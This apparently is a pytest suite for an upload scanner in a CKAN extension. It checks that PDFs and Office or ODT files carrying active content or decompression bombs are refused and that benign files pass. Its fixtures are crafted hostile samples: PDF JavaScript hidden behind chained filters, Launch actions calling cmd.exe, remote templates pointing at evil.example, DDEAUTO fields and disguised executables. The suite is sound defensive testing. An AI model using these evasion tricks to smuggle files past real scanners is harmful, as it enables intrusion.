"""Documents that act by themselves, in every writing that hides it, and honest ones that look alike."""

from __future__ import annotations

import base64
import datetime as dt
import io
import sys
import tracemalloc
import zipfile
import zlib
from typing import Any

import pytest

from ckanext.bmagov.base.domain.problem import ProblemError
from ckanext.bmagov.kpi.evidence.formats import document_office, document_pdf, pdf_filters
from ckanext.bmagov.kpi.evidence.formats.document import examine
from ckanext.bmagov.kpi.report.domain.report_text import Paragraph, Role
from ckanext.bmagov.kpi.report.formats.docx import write_docx
from ckanext.bmagov.kpi.report.formats.pdf import write_pdf

LIMIT = 30 * 1024 * 1024
SCRIPT = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
ACTIVE, UNREADABLE, TOO_MUCH = "FILE-ACTIVE-CONTENT", "FILE-UNREADABLE", "FILE-UNPACKED-SIZE"


def verdict(content: bytes) -> str:
    """What is said of a file: a code, or nothing when it is taken."""
    try:
        examine(io.BytesIO(content), LIMIT)
    except ProblemError as error:
        return error.code
    return ""


# --- PDF ---


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\n%%EOF"


def stream(head: bytes, data: bytes, end: bytes = b"\nendstream endobj") -> bytes:
    return b"7 0 obj" + head + b"stream\r\n" + data + end


def run_length(data: bytes) -> bytes:
    return b"".join(bytes((0, one)) for one in data) + b"\x80"


def lzw(data: bytes) -> bytes:
    """Codes of nine bits, begun anew before they grow."""
    codes: list[int] = []
    for at in range(0, len(data), 200):
        codes += [256, *data[at : at + 200]]
    bits = "".join(f"{code:09b}" for code in (*codes, 257))
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def hexed(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def base85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


def block(data: bytes, *, last: bool) -> tuple[bytes, ...]:
    """A block of bytes as they are, as deflate has them."""
    size = len(data)
    return bytes((last,)), size.to_bytes(2, "little"), (0xFFFF - size).to_bytes(2, "little"), data


HEAD = b"<</Type/ObjStm/N 1/First 4/Filter%s>>"
HIDDEN = {
    "packed": stream(HEAD % b"/FlateDecode", zlib.compress(SCRIPT)),
    "not packed at all": stream(b"<</Type/ObjStm/N 1/First 4>>", b"5 0 <</S/J#61vaScript>>"),
    "its kind written in numbers": stream(
        b"<</Type/Obj#53tm/N 1/First 4/Filter/FlateDecode>>", zlib.compress(SCRIPT)
    ),
    "far from its name": stream(
        b"<</Type/ObjStm/N 1/First 4/Pad(" + b"x" * 5000 + b")/Filter/FlateDecode>>", zlib.compress(SCRIPT)
    ),
    "its kind in another object": stream(
        b"<</Type 9 0 R/N 1/First 4/Filter/FlateDecode>>", zlib.compress(SCRIPT)
    ),
    "its filter in another object": stream(HEAD % b" 9 0 R", zlib.compress(SCRIPT)),
    "in hexadecimal first": stream(HEAD % b"[/ASCIIHexDecode/FlateDecode]", hexed(zlib.compress(SCRIPT))),
    "in 85 signs first": stream(HEAD % b"[/A85/Fl]", base85(zlib.compress(SCRIPT))),
    "packed twice": stream(HEAD % b"[/Fl/Fl]", zlib.compress(zlib.compress(SCRIPT))),
    "three times around": stream(
        HEAD % b"[/AHx/A85/Fl]", hexed(base85(zlib.compress(SCRIPT)))
    ),
    "in runs": stream(HEAD % b"/RunLengthDecode", run_length(SCRIPT)),
    "in runs, then packed": stream(HEAD % b"[/RL/Fl]", run_length(zlib.compress(SCRIPT))),
    "in the old way": stream(HEAD % b"/LZWDecode", lzw(SCRIPT)),
    "in the old way, then packed": stream(HEAD % b"[/LZW/FlateDecode]", lzw(zlib.compress(SCRIPT))),
    "its filter in numbers": stream(HEAD % b"/#4CZWDecode", lzw(SCRIPT)),
    "with a broken end": stream(HEAD % b"/FlateDecode", zlib.compress(SCRIPT)[:-6]),
    "without an end": stream(HEAD % b"/FlateDecode", zlib.compress(SCRIPT), b""),
    "behind a comment": stream(b"<</Type/ObjStm/N 1/First 9>>", b"%abc\n5 0 <</S/JavaScript>>"),
    "within the bytes of another": stream(
        b"<<>>", b"junk " + stream(HEAD % b"/FlateDecode", zlib.compress(SCRIPT))
    ),
    "with a begin that reads both ways": stream(
        HEAD % b"/FlateDecode",
        b"\x38\x30" + b"".join((*block(b"5 0 <", last=False), *block(SCRIPT, last=True))),
    ),
}  # fmt: skip


@pytest.mark.parametrize("how", HIDDEN)
def test_a_script_in_packed_objects_is_seen(how: str):
    assert verdict(pdf(HIDDEN[how])) == ACTIVE


UNSEEN = {
    "a filter that nobody knows": stream(HEAD % b"/Crypt", b"\xde\xad\xbe\xef" * 20),
    "differences of rows": stream(
        HEAD % b"/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>", zlib.compress(b"\x02\x01\x02" + SCRIPT)
    ),
}


@pytest.mark.parametrize("how", UNSEEN)
def test_objects_that_cannot_be_looked_into_are_refused(how: str):
    assert verdict(pdf(UNSEEN[how])) == UNREADABLE


URI = b"<</S/URI/URI(file://share/x)>>"
OPENED = {
    "an address": b"<</Type/Catalog/OpenAction" + URI + b">>endobj",
    "an address in another object": b"<</OpenAction 4 0 R>>endobj\n4 0 obj" + URI + b"endobj",
    "an address behind a comment": b"<</OpenAction %x\n4 0 R>>endobj\n4 %y\n0 obj" + URI + b"endobj",
    "the first of several of that number": b"<</OpenAction 4 0 R>>endobj 4 0 obj[1 0 R/Fit]endobj 4 0 obj"
    + URI + b"endobj",
    "an address after a page": b"<</OpenAction<</S/GoTo/D[1 0 R]/Next 6 0 R>>>>endobj",
    "another file": b"<</OpenAction<</S/GoToR/F(a.pdf)>>>>endobj",
    "a file inside": b"<</OpenAction<</S/GoToE>>>>endobj",
    "a program": b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj",
    "a form that is sent": b"<</OpenAction<</S/SubmitForm>>>>endobj",
    "data that are fetched": b"<</OpenAction<</S/ImportData>>>>endobj",
    "a film": b"<</Subtype/RichMedia>>endobj",
    "a file that is attached": b"<</Type/EmbeddedFile>>endobj",
    "a page that calls when it is shown": b"<</Type/Page/AA<</O" + URI + b">>>>endobj",
    "a page that calls, elsewhere": b"<</AA 4 0 R>>endobj 4 0 obj<</O 5 0 R>>endobj 5 0 obj" + URI,
    "an action whose kind is elsewhere": b"<</OpenAction<</S 5 0 R/URI(x)>>>>endobj",
}  # fmt: skip


@pytest.mark.parametrize("what", OPENED)
def test_what_acts_when_it_is_opened_is_refused(what: str):
    assert verdict(pdf(b"1 0 obj" + OPENED[what])) == ACTIVE


def test_an_action_that_is_packed_is_found_by_its_number():
    member = b"4 0 9 33 " + URI.ljust(33) + b"<</S/GoTo>>"
    held = stream(b"<</Type/ObjStm/N 2/First 9/Filter/FlateDecode>>", zlib.compress(member))
    assert verdict(pdf(b"1 0 obj<</OpenAction 4 0 R>>endobj", held)) == ACTIVE
    assert verdict(pdf(b"1 0 obj<</OpenAction 9 0 R>>endobj", held)) == ""
    assert verdict(pdf(b"1 0 obj<</OpenAction 77 0 R>>endobj", held)) == UNREADABLE


@pytest.mark.parametrize("name", [b"/Encrypt", b"/#45ncrypt"])
def test_a_locked_one_is_refused(name: bytes):
    assert verdict(pdf(b"trailer<<" + name + b" 5 0 R>>")) == "FILE-ENCRYPTED"


HONEST = {
    "opens at a page": pdf(b"1 0 obj<</OpenAction[3 0 R/XYZ null null 0]>>endobj"),
    "opens at a page, elsewhere": pdf(
        b"1 0 obj<</OpenAction 4 0 R>>endobj 4 0 obj<</S/GoTo/D[1 0 R/Fit]>>endobj"
    ),
    "links to click on": pdf(b"1 0 obj<</Subtype/Link/A<</S/URI/URI(https://example.go.th)>>>>endobj"),
    "a script's name in a picture": pdf(stream(b"<</Filter/DCTDecode>>", b"\xff\xd8 /JS \xfe /AA<< /XFA ")),
    "bookmarks before a picture": pdf(
        b"2 0 obj<</Type/Outlines/First 3 0 R/N 3>>endobj", stream(b"<</Filter/DCTDecode>>", b"\xff\xd8\xff")
    ),
    "an index of objects": pdf(
        stream(b"<</Type/XRef/W[1 2 1]/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>>>",
               zlib.compress(bytes(range(200))))
    ),
    "empty objects": pdf(stream(HEAD % b"/FlateDecode", zlib.compress(b""))),
}  # fmt: skip


@pytest.mark.parametrize("what", HONEST)
def test_an_honest_one_is_taken(what: str):
    assert verdict(HONEST[what]) == ""


@pytest.mark.parametrize(
    ("name", "packed", "plain"),
    [
        ("flate", zlib.compress(b"abc" * 900), b"abc" * 900),
        ("hex", b"61 62\n6>junk", b"ab`"),
        ("base85", base85(b"abc" * 901), b"abc" * 901),
        ("runs", b"\x02abc\xfdx\x80", b"abcxxxx"),
        ("lzw", bytes((0x80, 0x0B, 0x60, 0x50, 0x22, 0x0C, 0x0C, 0x85, 0x01)), b"-----A---B"),
        ("lzw", lzw(bytes(range(256)) * 9), bytes(range(256)) * 9),
    ],
)
def test_a_filter_unpacks(name: str, packed: bytes, plain: bytes):
    assert pdf_filters.DECODERS[name](packed, 100_000, None) == plain
    assert len(pdf_filters.DECODERS[name](packed, 5, None) or b"") <= 5


def test_codes_that_grow_unpack_as_others_pack_them():
    """Against another library: its writer lets codes grow to twelve bits and begins the table anew."""
    from pypdf._codecs._codecs import LzwCodec

    plain = bytes(range(256)) * 40 + b"abcabd" * 3000
    assert pdf_filters.lzw(LzwCodec().encode(plain), 10**6, None) == plain


# --- office ---

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DOCUMENT, BOOK = "word/document.xml", "xl/workbook.xml"


def office(parts: dict[str, str | bytes], main: str = DOCUMENT) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": "<Types/>", main: "<x/>", **parts}.items():
            archive.writestr(name, content)
    return target.getvalue()


def related(kind: str, target: str, mode: str = ' TargetMode="External"', tag: str = "Relationship") -> str:
    return f'<R xmlns:q="x"><{tag} Id="a" Type="{RELATION}{kind}" Target="{target}"{mode}/></R>'


def odt(content: str, **parts: str | bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        for name, text in {"content.xml": content, **parts}.items():
            archive.writestr(name, text)
    return target.getvalue()


RELS = "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
INSIDE = {
    "a template from the web": office({RELS: related("attachedTemplate", "https://evil.example/a.dotm")}),
    "a template of a share": office({RELS: related("attachedTemplate", "\\\\evil\\share\\a.dotm")}),
    "a template, the address in codes": office({RELS: related("attachedTemplate", "&#104;ttps://evil/a")}),
    "a template, with a sign in it": office({RELS: related("attachedTemplate", "https://evil/a>b")}),
    "a template by another prefix": office(
        {RELS: related("attachedTemplate", "https://evil/a", tag="q:Relationship")}
    ),
    "a template in another encoding": office(
        {RELS: ('<?xml version="1.0" encoding="utf-16"?>' + related("attachedTemplate", "http://e/")).encode("utf-16")}
    ),
    "an address that is not called one": office({RELS: related("image", "http://evil.example/1.png", "")}),
    "a picture from elsewhere": office({RELS: related("image", "http://evil.example/1.png")}),
    "a link to a share": office({RELS: related("hyperlink", "file://evil/share")}),
    "a page to put in": office({RELS: related("aFChunk", "part1.dat", ""), "word/part1.dat": "x"}),
    "an object": office({RELS: related("oleObject", "media/a.bin", "")}),
    "a field that starts a program": office(
        {DOCUMENT: "<w><instrText> DD</instrText><r/><instrText>EAUTO c:\\\\x </instrText></w>"}
    ),
    "a simple field": office({DOCUMENT: "<w><fldSimple instr=' DDE x y '/></w>"}),
    "macros under another name": office({"word/notes.bin": OLE}),
    "a program under another name": office({"word/media/a.png": b"MZ" + b"\x90" * 60}),
    "a page under another name": office({"word/media/a.png": b"\xef\xbb\xbf <HTML><script>"}),
    "a mail archive": office({"word/a.dat": b"MIME-Version: 1.0\nContent-Type: multipart/related"}),
    "another office file": office({"word/media/b.dat": office({})}),
    "a kind that runs": office(
        {"[Content_Types].xml": '<T><Default ContentType="a/vnd.macroEnabled.main+xml"/></T>'}
    ),
    "definitions of text": office({RELS: '<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
    "a link to another workbook": office({"xl/externalLinks/externalLink1.xml": "<x/>"}, BOOK),
    "a conversation with a program": office(
        {"xl/_rels/workbook.xml.rels": related("externalLink", "a.xml", ""), "xl/a.xml": "<ddeLink/>"}, BOOK
    ),
    "a sheet of old macros": office(
        {"xl/_rels/workbook.xml.rels": related("xlMacrosheet", "sheets/1.xml", "")}, BOOK
    ),
    "data from elsewhere": office({"xl/_rels/workbook.xml.rels": related("connections", "c.xml", "")}, BOOK),
    "an event of a text": odt('<a xmlns:s="s"><s:event-listener/></a>'),
    "a script of a text": odt("<a/>", **{"Scripts/python/a.py": "x"}),
    "a picture of a text from elsewhere": odt(
        '<a xmlns:d="d" xmlns:x="x"><d:image x:href="http://evil/1.png"/></a>'
    ),
    "a table from elsewhere": odt('<a xmlns:t="t"><t:table-source/></a>'),
}  # fmt: skip


@pytest.mark.parametrize("what", INSIDE)
def test_an_office_file_that_acts_or_fetches_is_refused(what: str):
    assert verdict(INSIDE[what]) == ACTIVE


PLAIN = {
    "a text with links": office({RELS: related("hyperlink", "https://example.go.th")}),
    "a text with a link to a neighbour": office({RELS: related("hyperlink", "annex.docx")}),
    "a text made with a template of the own disk": office(
        {RELS: related("attachedTemplate", "file:///C:\\Templates\\Letter.dotx")}
    ),
    "a text with fields": office(
        {DOCUMENT: "<w><instrText> PAGE </instrText><instrText>TOC \\o</instrText></w>"}
    ),
    "a text that is cut off": office({DOCUMENT: "<w><p>"}),
    "a workbook with a picture": office({"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"<html>"}, BOOK),
    "a text of another office": odt(
        '<a xmlns:x="x"><x:a x:href="https://example.go.th"/><x:image x:href="Pictures/1.png"/></a>'
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", PLAIN)
def test_a_plain_office_file_is_taken(what: str):
    assert verdict(PLAIN[what]) == ""


def test_the_reports_that_the_catalog_writes_are_taken_when_handed_in():
    lines = [Paragraph(Role.TITLE, "รายงาน"), Paragraph(Role.LINK, "ดูที่", "https://example.go.th")]
    at = dt.datetime(2026, 1, 2, tzinfo=dt.UTC)
    assert verdict(write_docx(lines, made_at=at, title="รายงาน")) == ""
    assert verdict(write_pdf(lines, "th", made_at=at, title="รายงาน")) == ""


def test_pictures_with_something_behind_them_are_pictures():
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (9).to_bytes(4, "big") * 2 + b"\0" * 20
    assert verdict(png + b"<html><script>alert(1)</script>") == ""


# --- what it costs ---


def entries(count: int) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name in ("[Content_Types].xml", DOCUMENT, *(f"word/{number}.xml" for number in range(count))):
            archive.writestr(name, "<x/>")
    return target.getvalue()


def nested(depth: int) -> bytes:
    return office({DOCUMENT: "<a>" * depth})


WORST = {
    "names of object streams": lambda n: pdf(b"/ObjStm stream\n" * n),
    "numbers of object streams": lambda n: pdf(b"/N 1/First 4 stream\n" * n),
    "object streams that are not packed": lambda n: pdf(b"/N 1/First 4 stream\n5 0 " * n),
    "hexadecimal without an end": lambda n: pdf(b"/N 1/First 4 stream\n" + b"35203020" * n),
    "signs without an end": lambda n: pdf(b"/N 1 /First 4 stream\n!!!!!" * n),
    "runs within runs": lambda n: pdf(b"/N 1/First 4/RL/LZW stream\n\x80\x0b" * n),
    "letters as numbers": lambda n: pdf(b"#41" * n),
    "comments": lambda n: pdf(b"/OpenAction%" * n),
    "actions": lambda n: pdf(b"<</OpenAction 4 0 R/AA<<" * n),
    "objects": lambda n: pdf(b"<</OpenAction 4 0 R>>" + b"4 0 obj" * n),
    "numbers": lambda n: pdf(b"<</OpenAction 4 0 R>>4 0 obj[]endobj" + b"1 " * n),
    "empty blocks": lambda n: pdf(b"/N 1/First 4 stream\n\x78\x9c" + b"\0\0\0\xff\xff" * n),
    "elements in each other": nested,
    "entries": entries,
}  # fmt: skip
SIZES = (500, 1000, 2000)


class Work:
    """Counts calls, and bytes of the budget, while a file is looked at."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.count = 0
        spend = pdf_filters.Budget.spend

        def counted(budget: pdf_filters.Budget, size: int) -> None:
            self.count += size // 100
            spend(budget, size)

        monkeypatch.setattr(pdf_filters.Budget, "spend", counted)

    def of(self, content: bytes) -> int:
        self.count = 0

        def called(_frame: Any, event: str, _: Any) -> None:
            self.count += event in ("call", "c_call")

        sys.setprofile(called)
        try:
            verdict(content)
        finally:
            sys.setprofile(None)
        return self.count


@pytest.mark.parametrize("shape", WORST)
def test_work_grows_no_faster_than_the_file(shape: str, monkeypatch: pytest.MonkeyPatch):
    work = Work(monkeypatch)
    base = work.of(WORST[shape](1))
    small, middle, large = (max(work.of(WORST[shape](size)) - base, 0) for size in SIZES)
    assert middle <= 2.3 * small + 200
    assert large <= 2.3 * middle + 200


BOMBS = {
    "objects": pdf(stream(HEAD % b"/Fl", zlib.compress(b"5 0 " + b" " * 40_000_000))),
    "objects within objects": pdf(
        stream(HEAD % b"[/Fl/Fl]", zlib.compress(zlib.compress(b"5 0 " + b" " * 90_000_000)))
    ),
    "many objects": pdf(*[stream(HEAD % b"/Fl", zlib.compress(b"5 0 " + b" " * 2_000_000))] * 30),
    "streams": pdf(b"stream\n" * (document_pdf.MAX_STREAMS + 1)),
    "old codes": pdf(stream(HEAD % b"/LZW", lzw(b"5 0 " + b" " * 3_000_000))),
    "text": office({"word/a.xml": b"<a>" + b" " * (document_office.MAX_LOOKED + 1)}),
    "texts": office({f"word/{number}.xml": b"<a>" + b" " * 9_000_000 for number in range(8)}),
    "entries": entries(5_000),
}  # fmt: skip


@pytest.mark.parametrize("what", BOMBS)
def test_what_unpacks_to_too_much_is_refused_with_bounded_memory(what: str):
    tracemalloc.start()
    try:
        assert verdict(BOMBS[what]) == TOO_MUCH
        assert tracemalloc.get_traced_memory()[1] < 5 * document_pdf.MAX_OBJECTS + 3 * len(BOMBS[what])
    finally:
        tracemalloc.stop()
